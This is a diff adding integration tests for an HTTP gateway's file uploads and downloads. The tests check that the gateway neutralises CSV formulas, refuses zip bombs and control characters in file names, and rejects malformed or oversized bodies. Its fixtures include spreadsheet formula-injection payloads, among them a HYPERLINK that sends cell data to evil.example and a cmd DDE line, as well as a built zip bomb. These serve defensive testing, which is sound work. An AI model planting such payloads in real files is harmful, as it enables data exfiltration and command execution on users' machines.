@@ -1,15 +1,25 @@
+import { subscribe } from 'node:diagnostics_channel';
 import { createServer, type Server } from 'node:http';
+import type { Socket } from 'node:net';
 import type { AddressInfo } from 'node:net';
 import { Readable } from 'node:stream';
 import { startEmulator, type RunningEmulator } from '@backoffice/keycloak-emulator';
 import express from 'express';
+import { strToU8, zipSync } from 'fflate';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { AuditEvent } from '../audit/audit-plugin.js';
 import { loadConfig } from '../config.js';
 import { defineDownload, defineUpload } from '../files/index.js';
+import {
+  FORM_OVERHEAD_BYTES,
+  MAX_FIELD_BYTES,
+  MAX_FIELDS,
+  MAX_FILE_NAME_LENGTH,
+} from '../files/multipart.js';
 import { startGateway, type RunningGateway } from '../index.js';
 import { createLogger } from '../logger.js';
 import { startTracing } from '../telemetry/tracing.js';
+import { rawRequest, type RawRequest } from './raw-http.js';
 
 /**
  * The file capability over HTTP with real signed tokens: a gateway with test routes in front of a small upstream
@@ -30,6 +40,13 @@ startTracing({ OTEL_SDK_DISABLED: undefined });
 const CSV = 'id,monto\n1,100.50\n2,20.00\n';
 const XLSX_HEAD = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]);
 const UPLOAD_LIMIT = 64 * 1024;
+const ZIP_LIMITS = { maxEntries: 20, maxUncompressedBytes: 8 * 1024 * 1024, maxRatio: 100 };
+/** What a service may write in a CSV: cells a spreadsheet would run. */
+const FORMULAS_CSV =
+  'id,pagador,monto\r\n' +
+  '1,"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",-100.50\r\n' +
+  "2,+cmd|' /C calc'!A0,20.00\r\n" +
+  '3,@SUM(1+1),30.00\r\n';
 const WEB_ORIGIN = 'http://localhost:5173';
 
 let upstream: Server;
@@ -59,6 +76,18 @@ function startUpstream(): Promise<void> {
   app.get('/missing', (req, res) => {
     calls.push({ method: 'GET', path: req.path, headers: req.headers });
     res.status(404).json({ code: 'not_found', extended_code: 'file_not_found', message: 'no' });
+  });
+  app.get('/formulas.csv', (req, res) => {
+    calls.push({ method: 'GET', path: req.path, headers: req.headers });
+    res.setHeader('content-type', 'text/csv; charset=utf-8');
+    res.end(FORMULAS_CSV);
+  });
+  app.get('/reset', (req, res) => {
+    calls.push({ method: 'GET', path: req.path, headers: req.headers });
+    // Half the declared file, then the connection is reset.
+    res.setHeader('content-type', 'text/csv; charset=utf-8');
+    res.setHeader('content-length', '100000');
+    res.write(CSV.repeat(100), () => res.socket?.resetAndDestroy());
   });
   app.get('/stalled', (req) => {
     calls.push({ method: 'GET', path: req.path, headers: req.headers });
@@ -98,6 +127,7 @@ beforeAll(async () => {
       keycloakJwksUrl: emulator.jwksUrl,
       corsOrigins: [WEB_ORIGIN],
       upstreamTimeoutMs: 2000,
+      zipLimits: ZIP_LIMITS,
       services: { ...base.services, withdraw: upstreamUrl, import: upstreamUrl },
     },
     {
@@ -124,6 +154,17 @@ beforeAll(async () => {
           route: '/falta',
           requires: ['EXPORT_SHOW'],
           upstream: () => ({ service: 'withdraw', path: '/missing' }),
+        }),
+        defineDownload({
+          route: '/formulas',
+          requires: ['EXPORT_SHOW'],
+          upstream: () => ({ service: 'withdraw', path: '/formulas.csv' }),
+          fileName: () => 'pagos.csv',
+        }),
+        defineDownload({
+          route: '/cortado',
+          requires: ['EXPORT_SHOW'],
+          upstream: () => ({ service: 'withdraw', path: '/reset' }),
         }),
         defineDownload({
           route: '/lento',
@@ -204,7 +245,8 @@ describe('downloads', () => {
     );
     const text = await response.text();
     expect(text).toBe(CSV.repeat(200));
-    expect(response.headers.get('content-length')).toBe(String(Buffer.byteLength(text)));
+    // A CSV goes through the formula neutraliser: its length is not announced.
+    expect(response.headers.get('content-length')).toBeNull();
     expect(calls).toHaveLength(1);
     expect(calls[0]!.path).toBe('/files/42.csv');
     expect(calls[0]!.headers.authorization).toBe(`Bearer ${adminToken}`);
@@ -285,14 +327,21 @@ describe('downloads', () => {
     expect(auditEvents().map((e) => e.result)).toEqual(['failed', 'failed']);
   });
 
-  it('an upstream 500 is a 502 with the generic Spanish text (nothing of the upstream’s message)', async () => {
-    await expectError(
-      await get('/roto', adminToken),
-      502,
-      'UPSTREAM_ERROR',
-      /^Ups! Ocurrió un error inesperado/,
-    );
+  it('an upstream 500 is a 502 with the generic Spanish text and the request id (nothing of the upstream’s codes or message)', async () => {
+    const response = await get('/roto', adminToken);
+    const requestId = response.headers.get('x-request-id');
+    expect(await response.clone().json()).toEqual({
+      error: {
+        code: 'UPSTREAM_ERROR',
+        message: `Ups! Ocurrió un error inesperado. Referencia: ${requestId}.`,
+      },
+    });
+    await expectError(response, 502, 'UPSTREAM_ERROR', /^Ups! Ocurrió un error inesperado/);
     expect(calls).toHaveLength(1);
+    // The codes stay in the log.
+    expect(logLines.map((line) => JSON.parse(line) as Record<string, unknown>)).toContainEqual(
+      expect.objectContaining({ msg: 'upstream fault', requestId, status: 500, extendedCode: 'boom' }),
+    );
     expect(auditEvents()[0]).toMatchObject({ result: 'failed', errorCode: 'UPSTREAM_ERROR' });
   });
 
@@ -355,14 +404,50 @@ describe('uploads', () => {
     ]);
   });
 
-  it('accepts an xlsx whose content is a zip archive', async () => {
-    const response = await upload(uploadForm('pagos.xlsx', Buffer.concat([XLSX_HEAD, Buffer.alloc(100)])));
+  it('accepts an xlsx whose content is a zip archive within the zip limits', async () => {
+    const xlsx = zipSync({
+      '[Content_Types].xml': strToU8('<Types/>'),
+      'xl/workbook.xml': strToU8('<workbook/>'),
+    });
+    const response = await upload(uploadForm('pagos.xlsx', xlsx));
     expect(response.status).toBe(201);
-    expect(calls[0]!.file?.size).toBe(108);
+    expect(calls[0]!.file?.size).toBe(xlsx.length);
+  });
+
+  it('a zip bomb, too many entries, or a zip that cannot be read: refused in Spanish, 0 upstream calls', async () => {
+    const bomb = zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(ZIP_LIMITS.maxUncompressedBytes + 1) });
+    expect(bomb.length).toBeLessThan(UPLOAD_LIMIT);
+    await expectError(
+      await upload(uploadForm('bomba.xlsx', bomb)),
+      413,
+      'PAYLOAD_TOO_LARGE',
+      'El archivo XLSX descomprimido supera el tamaño máximo permitido (8 MB).',
+    );
+    const many = zipSync(
+      Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`x/${i}.xml`, strToU8('<x/>')])),
+    );
+    await expectError(
+      await upload(uploadForm('partes.xlsx', many)),
+      413,
+      'PAYLOAD_TOO_LARGE',
+      'El archivo XLSX tiene demasiadas partes (máximo 20).',
+    );
+    await expectError(
+      await upload(uploadForm('roto.xlsx', Buffer.concat([XLSX_HEAD, Buffer.alloc(100)]))),
+      415,
+      'UNSUPPORTED_MEDIA_TYPE',
+      'El archivo XLSX no es válido: no se puede leer su contenido.',
+    );
+    expect(calls).toHaveLength(0);
+    expect(auditEvents().map((e) => e.errorCode)).toEqual([
+      'PAYLOAD_TOO_LARGE',
+      'PAYLOAD_TOO_LARGE',
+      'UNSUPPORTED_MEDIA_TYPE',
+    ]);
   });
 
   it('over the limit, declared in Content-Length: 413 in Spanish before reading, no upstream call', async () => {
-    const response = await upload(uploadForm('pagos.csv', 'x'.repeat(UPLOAD_LIMIT * 3)));
+    const response = await upload(uploadForm('pagos.csv', 'x'.repeat(UPLOAD_LIMIT + FORM_OVERHEAD_BYTES)));
     await expectError(
       response,
       413,
@@ -444,3 +529,250 @@ describe('uploads', () => {
     ]);
   });
 });
+
+describe('file names and limits', () => {
+  it('reads the file name as UTF-8 and forwards it so: pagos_año_cuotas.csv', async () => {
+    const response = await upload(uploadForm('pagos_año_cuotas.csv', CSV));
+    expect(response.status).toBe(201);
+    expect(calls[0]!.file?.name).toBe('pagos_año_cuotas.csv');
+    expect(await response.json()).toMatchObject({ file_name: 'pagos_año_cuotas.csv' });
+  });
+
+  it('control characters in the name are refused in every form of the header; nothing upstream', async () => {
+    const named = (disposition: string) =>
+      rawUpload(
+        Buffer.from(
+          `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\n` +
+            `Content-Type: text/csv\r\n\r\n${CSV}\r\n--${BOUNDARY}--`,
+        ),
+      );
+    // Raw in the header (busboy reads the part header as malformed) or encoded in filename* (RFC 5987).
+    for (const disposition of [
+      'filename="x\ty.csv"',
+      'filename="x\x01y.csv"',
+      'filename="x\x7fy.csv"',
+      `filename*=UTF-8''x%0D%0Ay.csv`,
+      `filename*=utf-8''x%00y.csv`,
+      `filename*=ISO-8859-1''x%85y.csv`,
+      `filename*=UTF-8''x%E2%80%AEvsc.csv`,
+      `filename="a.csv"; filename*=UTF-8''x%1By.csv`,
+    ]) {
+      const answer = await named(disposition);
+      expect(answer.status, disposition).toBe(400);
+      expect(errorBody(answer.text).error.message, disposition).toMatch(
+        /^El (nombre del archivo no es válido: contiene caracteres de control|formulario enviado no es válido)\.$/,
+      );
+      if (disposition.includes('%')) {
+        expect(errorBody(answer.text).error.message).toMatch(/caracteres de control/);
+      }
+    }
+    expect(calls).toHaveLength(0);
+    expect((await named(`filename*=UTF-8''pagos_a%C3%B1o.csv`)).status).toBe(201);
+    expect(calls[0]!.file?.name).toBe('pagos_año.csv');
+  });
+
+  it(`a name of ${MAX_FILE_NAME_LENGTH} characters is accepted, a longer one (5,000) refused`, async () => {
+    const longest = `${'ñ'.repeat(MAX_FILE_NAME_LENGTH - 4)}.csv`;
+    expect((await upload(uploadForm(longest, CSV))).status).toBe(201);
+    expect(calls[0]!.file?.name).toBe(longest);
+    await expectError(
+      await upload(uploadForm(`${'a'.repeat(MAX_FILE_NAME_LENGTH - 3)}.csv`, CSV)),
+      400,
+      'BAD_REQUEST',
+      `El nombre del archivo es demasiado largo (máximo ${MAX_FILE_NAME_LENGTH} caracteres).`,
+    );
+    await expectError(await upload(uploadForm(`${'a'.repeat(4996)}.csv`, CSV)), 400, 'BAD_REQUEST', /largo/);
+    expect(calls).toHaveLength(1);
+  });
+
+  it('the limits are inclusive: a file of exactly the limit, a field of exactly its limit, exactly the most fields', async () => {
+    const exact = `${'a,b\n'.repeat(UPLOAD_LIMIT / 4)}`;
+    expect(exact.length).toBe(UPLOAD_LIMIT);
+    expect((await upload(uploadForm('exacto.csv', exact))).status).toBe(201);
+    expect(calls[0]!.file?.size).toBe(UPLOAD_LIMIT);
+    await expectError(await upload(uploadForm('mas.csv', `${exact}x`)), 413, 'PAYLOAD_TOO_LARGE', /64 KB/);
+
+    const longestField = 'x'.repeat(MAX_FIELD_BYTES);
+    expect((await upload(uploadForm('pagos.csv', CSV, { collector_id: longestField }))).status).toBe(201);
+    expect(calls[1]!.fields?.collector_id).toBe(longestField);
+    await expectError(
+      await upload(uploadForm('pagos.csv', CSV, { collector_id: `${longestField}x` })),
+      400,
+      'BAD_REQUEST',
+      'El formulario enviado no es válido.',
+    );
+
+    // Every field at its largest, and a file at its largest: the declared length holds it all.
+    const most = Object.fromEntries(
+      Array.from({ length: MAX_FIELDS }, (_, i) => [i === 0 ? 'collector_id' : `campo_${i}`, longestField]),
+    );
+    expect((await upload(uploadForm('exacto.csv', exact, most))).status).toBe(201);
+    await expectError(
+      await upload(uploadForm('pagos.csv', CSV, { ...most, uno_mas: '1' })),
+      400,
+      'BAD_REQUEST',
+      'El formulario enviado no es válido.',
+    );
+    expect(calls).toHaveLength(3);
+  });
+});
+
+/** The issue-26 probe's upload, complete: a field and a CSV file; the body ends with the closing delimiter. */
+const BOUNDARY = 'XyZ';
+const PROBE_BODY = Buffer.from(
+  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="collector_id"\r\n\r\n10001\r\n` +
+    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n` +
+    `external_transaction_id,amount\r\nA1,10\r\n\r\n--${BOUNDARY}--`,
+);
+
+const rawUpload = (
+  body: Buffer,
+  options: Partial<RawRequest> & { length?: number; token?: string | null } = {},
+) =>
+  rawRequest({
+    url: gateway.url,
+    path: '/files/subidas',
+    body,
+    ...options,
+    headers: {
+      ...(options.token !== null ? { authorization: `Bearer ${options.token ?? adminToken}` } : {}),
+      'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
+      'content-length': String(options.length ?? body.length),
+      connection: 'close',
+      ...options.headers,
+    },
+  });
+
+const errorBody = (text: string) =>
+  JSON.parse(text.slice(text.indexOf('\r\n\r\n') + 4)) as { error: { code: string; message: string } };
+
+describe('uploads that end early, are malformed or whose client leaves', { timeout: 120_000 }, () => {
+  it('the probe’s body, cut at every byte offset (it ends there): each a 400 in Spanish, no upstream call', async () => {
+    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
+    expect(calls).toHaveLength(1);
+    calls.length = 0;
+    logLines.length = 0;
+    for (let cut = 0; cut < PROBE_BODY.length; cut++) {
+      const answer = await rawUpload(PROBE_BODY.subarray(0, cut));
+      expect(answer.status, `cut at ${cut}`).toBe(400);
+      expect(errorBody(answer.text).error.message).toBe('El formulario enviado no es válido.');
+    }
+    expect(calls).toHaveLength(0);
+    // Each logged once (what busboy said) and audited as refused.
+    const refused = logLines.filter((line) => line.includes('"upload refused"'));
+    expect(refused).toHaveLength(PROBE_BODY.length);
+    expect(auditEvents()).toHaveLength(PROBE_BODY.length);
+    expect(new Set(auditEvents().map((e) => `${e.result} ${e.errorCode}`))).toEqual(
+      new Set(['failed BAD_REQUEST']),
+    );
+    // Still serving.
+    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
+  });
+
+  it('a client that leaves mid-body, at every byte offset: audited as refused, nothing upstream, still serving', async () => {
+    for (let cut = 0; cut < PROBE_BODY.length; cut++) {
+      const answer = await rawUpload(PROBE_BODY.subarray(0, cut), { length: PROBE_BODY.length, leave: true });
+      expect(answer.status).toBeNull();
+    }
+    await expect.poll(() => auditEvents().length).toBe(PROBE_BODY.length);
+    expect(new Set(auditEvents().map((e) => `${e.result} ${e.errorCode}`))).toEqual(
+      new Set(['failed BAD_REQUEST']),
+    );
+    expect(calls).toHaveLength(0);
+    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
+  });
+
+  it('malformed bodies: no boundary, a boundary inside a header, a header that never ends: 4xx, nothing upstream', async () => {
+    const noBoundary = await rawUpload(PROBE_BODY, {
+      headers: { 'content-type': 'multipart/form-data; charset=utf-8' },
+    });
+    expect(noBoundary.status).toBe(415);
+    const withoutDelimiters = await rawUpload(Buffer.from('external_transaction_id,amount\r\nA1,10\r\n'));
+    expect(withoutDelimiters.status).toBe(400);
+    const boundaryInHeader = await rawUpload(
+      Buffer.from(
+        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n--${BOUNDARY}\r\n` +
+          `Content-Type: text/csv\r\n\r\nA1,10\r\n--${BOUNDARY}--`,
+      ),
+    );
+    expect(boundaryInHeader.status).toBeGreaterThanOrEqual(400);
+    expect(boundaryInHeader.status).toBeLessThan(500);
+    const endlessHeader = await rawUpload(
+      Buffer.from(
+        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nX-Relleno: ${'a'.repeat(60_000)}`,
+      ),
+    );
+    expect(endlessHeader.status).toBe(400);
+    expect(calls).toHaveLength(0);
+    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
+  });
+
+  it('a CSV download: every cell a spreadsheet would run is made inert (OWASP form), the rest as the service wrote it', async () => {
+    const response = await get('/formulas', adminToken);
+    expect(response.status).toBe(200);
+    const text = await response.text();
+    expect(text).toBe(
+      'id,pagador,monto\r\n' +
+        '1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",-100.50\r\n' +
+        "2,\"'+cmd|' /C calc'!A0\",20.00\r\n" +
+        '3,"\'@SUM(1+1)",30.00\r\n',
+    );
+    expect(response.headers.get('content-disposition')).toContain('filename="pagos.csv"');
+  });
+
+  it('a download whose upstream resets mid-file ends that response only', async () => {
+    await expect(get('/cortado', adminToken).then((r) => r.text())).rejects.toThrow();
+    await expect.poll(() => auditEvents().at(-1)?.errorCode).toBe('DOWNLOAD_INTERRUPTED');
+    const response = await get('/prueba/1/csv', adminToken);
+    expect(response.status).toBe(200);
+    await response.text();
+  });
+});
+
+/** The server side of each connection, to read how much of a request the gateway read. */
+const serverSockets: Socket[] = [];
+subscribe('http.server.request.start', (message) => {
+  serverSockets.push((message as { socket: Socket }).socket);
+});
+
+describe(
+  'refused before the body: answered at once, the body never read in full',
+  { timeout: 120_000 },
+  () => {
+    const TWENTY_MB = 20 * 1024 * 1024;
+
+    it('a 20 MB anonymous upload is answered 401 before 1 MB is read, and its connection closed', async () => {
+      serverSockets.length = 0;
+      const answer = await rawUpload(Buffer.alloc(0), {
+        token: null,
+        length: TWENTY_MB,
+        stream: { total: TWENTY_MB },
+      });
+      expect(answer.status).toBe(401);
+      expect(errorBody(answer.text).error.code).toBe('UNAUTHENTICATED');
+      expect(serverSockets).toHaveLength(1);
+      expect(serverSockets[0]!.destroyed).toBe(true);
+      expect(serverSockets[0]!.bytesRead).toBeLessThan(1024 * 1024);
+      expect(answer.bytesSent).toBeLessThan(TWENTY_MB);
+    });
+
+    it('chunked, anonymous: the same', async () => {
+      serverSockets.length = 0;
+      const answer = await rawUpload(Buffer.alloc(0), {
+        token: null,
+        headers: { 'content-length': undefined, 'transfer-encoding': 'chunked' },
+        stream: { total: TWENTY_MB, chunked: true },
+      });
+      expect(answer.status).toBe(401);
+      expect(serverSockets[0]!.bytesRead).toBeLessThan(1024 * 1024);
+    });
+
+    it('an operator’s upload declaring 20 MB over a 64 KB limit: 413 before 1 MB is read', async () => {
+      serverSockets.length = 0;
+      const answer = await rawUpload(Buffer.alloc(0), { length: TWENTY_MB, stream: { total: TWENTY_MB } });
+      expect(answer.status).toBe(413);
+      expect(serverSockets[0]!.bytesRead).toBeLessThan(1024 * 1024);
+      expect(calls).toHaveLength(0);
+    });
+  },
+);
